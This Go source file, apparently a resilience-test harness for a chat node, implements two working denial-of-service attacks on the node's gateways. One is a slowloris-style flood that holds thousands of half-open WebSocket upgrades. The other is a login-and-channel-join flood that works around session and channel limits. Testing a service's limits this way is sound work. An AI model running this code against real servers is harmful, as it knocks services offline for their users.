package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"darkchat/identity"

	"github.com/libp2p/go-libp2p/core/peer"
	ma "github.com/multiformats/go-multiaddr"
)

// Attacks on a node's client gateways (Spec.Gateway, host:port). Both
// speak from Spec.Listen's IP address, so that a test running attackers in
// network namespaces of their own gives each a source address.
const (
	// KindHoldConnections: open and hold up to Peers×1000 TCP connections
	// to Gateway (the WebSocket port, typically), never finishing a
	// request: half the connections send nothing, the other half a
	// partial HTTP upgrade request that grows by one header line a second.
	// A connection the victim closes, refused or timed out, is opened
	// again at once. Sent is the most connections held at once (open and
	// not refused), Conns the connections opened, Refused those refused
	// at accept, Closed the held ones the victim closed later.
	KindHoldConnections = "hold-connections"
	// KindCreateChannels: log in up to Peers sessions (fresh keys) on
	// Gateway (a TCP gateway) and have each join fresh channels as fast
	// as the node answers, one join in flight per session, retrying at
	// once when refused; a session at a channel limit leaves its oldest
	// channel and goes on, so channels keep being created for the whole
	// attack. Sent is the joins accepted, Refused the joins refused,
	// PeerIDs the sessions logged in, Closed the logins that failed (a
	// slot whose login fails, refused at accept for instance, tries again
	// a second later).
	KindCreateChannels = "create-channels"
)

// sourceAddr is the local address the gateway attacks dial from: the IP of
// s.Listen, any port.
func sourceAddr(s Spec) (*net.TCPAddr, error) {
	a, err := ma.NewMultiaddr(s.Listen)
	if err != nil {
		return nil, fmt.Errorf("listen %q: %w", s.Listen, err)
	}
	for _, p := range []int{ma.P_IP4, ma.P_IP6} {
		if v, err := a.ValueForProtocol(p); err == nil {
			ip := net.ParseIP(v)
			if ip == nil {
				return nil, fmt.Errorf("listen %q: bad IP", s.Listen)
			}
			return &net.TCPAddr{IP: ip}, nil
		}
	}
	return nil, fmt.Errorf("listen %q has no IP address", s.Listen)
}

// raiseFileLimit lifts the open-file limit to the hard limit: holding
// connections is what the attack is for.
func raiseFileLimit() (int, error) {
	var l syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &l); err != nil {
		return 0, err
	}
	if l.Cur < l.Max {
		l.Cur = l.Max
		if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &l); err != nil {
			return int(l.Cur), err
		}
	}
	return int(l.Cur), nil
}

// gatewayDialer dials s.Gateway from s's source address. Connections are
// closed with a reset (SO_LINGER 0), so that the attacker's side keeps no
// TIME_WAIT entries and its ports never run out.
func gatewayDialer(s Spec) (*net.Dialer, error) {
	if s.Gateway == "" {
		return nil, errors.New("no gateway address to attack")
	}
	src, err := sourceAddr(s)
	if err != nil {
		return nil, err
	}
	return &net.Dialer{Timeout: 10 * time.Second, LocalAddr: src}, nil
}

// refusalMarks are how a node refuses a connection at accept: an HTTP
// status on the WebSocket port, an error object on the TCP port
// (PROTOCOL.md §1).
var refusalMarks = [][]byte{[]byte("HTTP/1.1 429"), []byte("HTTP/1.1 503"), []byte(`"too_many_sessions"`), []byte(`"node_full"`)}

func isRefusal(b []byte) bool {
	for _, m := range refusalMarks {
		if bytes.Contains(b, m) {
			return true
		}
	}
	return false
}

// pause waits d or until ctx ends.
func pause(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// holdConnections runs KindHoldConnections.
func (t *tally) holdConnections(ctx context.Context, s Spec, _ peer.AddrInfo, begun func()) error {
	if _, err := raiseFileLimit(); err != nil {
		return fmt.Errorf("open-file limit: %w", err)
	}
	d, err := gatewayDialer(s)
	if err != nil {
		return err
	}
	var held, peak atomic.Int64
	hold := func() {
		n := held.Add(1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		begun()
	}
	var wg sync.WaitGroup
	for i := range s.Peers * 1000 {
		wg.Go(func() {
			backoff := time.Duration(0)
			for ctx.Err() == nil {
				c, err := d.DialContext(ctx, "tcp", s.Gateway)
				if err != nil {
					// Out of ports or descriptors, or the victim's
					// queue is full: try again, without spinning.
					if ctx.Err() == nil {
						t.dialFailed.Add(1)
					}
					backoff = min(max(2*backoff, 10*time.Millisecond), time.Second)
					pause(ctx, backoff)
					continue
				}
				backoff = 0
				t.conns.Add(1)
				hold()
				refused := t.holdOne(ctx, c, i%2 == 1, s.Gateway)
				held.Add(-1)
				if ctx.Err() != nil {
					break
				}
				if refused {
					t.refused.Add(1)
				} else {
					t.closed.Add(1)
				}
			}
		})
	}
	wg.Wait()
	t.sent.Store(peak.Load())
	return nil
}

// holdOne holds c until the victim closes it or ctx ends, sending nothing
// or (partial) a request whose headers never end, and reports whether the
// victim refused it (answered with a refusal at once).
func (t *tally) holdOne(ctx context.Context, c net.Conn, partial bool, host string) (refused bool) {
	if tc, ok := c.(*net.TCPConn); ok {
		tc.SetLinger(0)
	}
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer func() {
		stop()
		c.Close()
	}()
	if partial {
		fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n", host)
	}
	buf := make([]byte, 512)
	got := 0
	for line := 0; ; line++ {
		c.SetReadDeadline(time.Now().Add(time.Second))
		n, err := c.Read(buf[got:])
		got += n
		if got > 0 && isRefusal(buf[:got]) {
			return true
		}
		if got == len(buf) {
			got = 0 // not a refusal (a TCP gateway's hello): keep holding
		}
		if err == nil {
			continue
		}
		var ne net.Error
		if !errors.As(err, &ne) || !ne.Timeout() {
			return false // closed by the victim (or by ctx)
		}
		if partial {
			c.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := fmt.Fprintf(c, "X-Pad-%d: x\r\n", line); err != nil {
				return false
			}
		}
	}
}

// createChannels runs KindCreateChannels.
func (t *tally) createChannels(ctx context.Context, s Spec, _ peer.AddrInfo, begun func()) error {
	d, err := gatewayDialer(s)
	if err != nil {
		return err
	}
	var tag [4]byte
	rand.Read(tag[:])
	prefix := "f" + hex.EncodeToString(tag[:])
	var wg sync.WaitGroup
	for i := range s.Peers {
		wg.Go(func() {
			for ctx.Err() == nil {
				gs, err := t.loginGateway(ctx, d, s.Gateway)
				if err != nil {
					// Refused at accept (too many sessions from this
					// address) or the node is busy: try again shortly.
					t.closed.Add(1)
					pause(ctx, time.Second)
					continue
				}
				t.ids.Add(1)
				t.joinFresh(ctx, gs, prefix+"-"+strconv.Itoa(i)+"-", begun)
				gs.close()
			}
		})
	}
	wg.Wait()
	return nil
}

// joinFresh has the session join fresh channels until ctx ends or the
// session does.
func (t *tally) joinFresh(ctx context.Context, gs *gatewaySession, prefix string, begun func()) {
	stop := context.AfterFunc(ctx, func() { gs.close() })
	defer stop()
	var joined []string // oldest first
	for n := 0; ctx.Err() == nil; n++ {
		ch := prefix + strconv.Itoa(n)
		if err := gs.write(`{"type":"join","channel":"` + ch + `","username":"m"}`); err != nil {
			return
		}
		begun()
		f, err := gs.await(func(f *frame) bool { return f.Channel == ch && (f.Type == "joined" || f.Type == "error") })
		if err != nil {
			return
		}
		if f.Type == "joined" {
			t.sent.Add(1)
			joined = append(joined, ch)
			continue
		}
		t.refused.Add(1)
		if f.Code != "too_many_channels" && f.Code != "node_full" || len(joined) == 0 {
			continue // rate_limited: try the next one at once
		}
		// At a limit: leave the oldest channel to make room.
		old := joined[0]
		joined = joined[1:]
		if err := gs.write(`{"type":"leave","channel":"` + old + `"}`); err != nil {
			return
		}
		if _, err := gs.await(func(f *frame) bool { return f.Channel == old && (f.Type == "left" || f.Type == "error") }); err != nil {
			return
		}
	}
}

// frame is the part of a node's objects the gateway attacks read.
type frame struct {
	Type      string `json:"type"`
	Code      string `json:"code"`
	Channel   string `json:"channel"`
	Challenge string `json:"challenge"`
}

// gatewaySession is a logged-in session on a TCP gateway.
type gatewaySession struct {
	c  net.Conn
	br *bufio.Reader
}

// loginGateway connects to a TCP gateway and logs in with a fresh key
// (PROTOCOL.md §2.1–2.3).
func (t *tally) loginGateway(ctx context.Context, d *net.Dialer, addr string) (*gatewaySession, error) {
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		if ctx.Err() == nil {
			t.dialFailed.Add(1)
		}
		return nil, err
	}
	t.conns.Add(1)
	if tc, ok := c.(*net.TCPConn); ok {
		tc.SetLinger(0)
	}
	gs := &gatewaySession{c: c, br: bufio.NewReaderSize(c, 4<<10)}
	hello, err := gs.next(10 * time.Second)
	if err != nil || hello.Type != "hello" {
		c.Close()
		return nil, fmt.Errorf("no hello: %+v, %v", hello, err)
	}
	key, err := identity.GenerateKey()
	if err != nil {
		c.Close()
		return nil, err
	}
	pub := key.Public()
	if err := gs.write(`{"type":"login","key":"` + hex.EncodeToString(pub[:]) + `","sig":"` + hex.EncodeToString(identity.SignLogin(key, hello.Challenge)) + `"}`); err != nil {
		c.Close()
		return nil, err
	}
	w, err := gs.await(func(f *frame) bool { return f.Type == "welcome" || f.Type == "error" })
	if err != nil || w.Type != "welcome" {
		c.Close()
		return nil, fmt.Errorf("login: %+v, %v", w, err)
	}
	return gs, nil
}

func (gs *gatewaySession) write(line string) error {
	gs.c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	_, err := io.WriteString(gs.c, line+"\n")
	return err
}

// next reads the next object within timeout.
func (gs *gatewaySession) next(timeout time.Duration) (*frame, error) {
	gs.c.SetReadDeadline(time.Now().Add(timeout))
	line, err := gs.br.ReadSlice('\n')
	if err != nil {
		return nil, err
	}
	var f frame
	if err := json.Unmarshal(line, &f); err != nil {
		return nil, fmt.Errorf("bad object %q: %w", line, err)
	}
	return &f, nil
}

// await reads objects until one matches, answering pings on the way.
func (gs *gatewaySession) await(match func(*frame) bool) (*frame, error) {
	for {
		f, err := gs.next(30 * time.Second)
		if err != nil {
			return nil, err
		}
		if match(f) {
			return f, nil
		}
		if f.Type == "ping" {
			if err := gs.write(`{"type":"pong"}`); err != nil {
				return nil, err
			}
		}
	}
}

func (gs *gatewaySession) close() { gs.c.Close() }
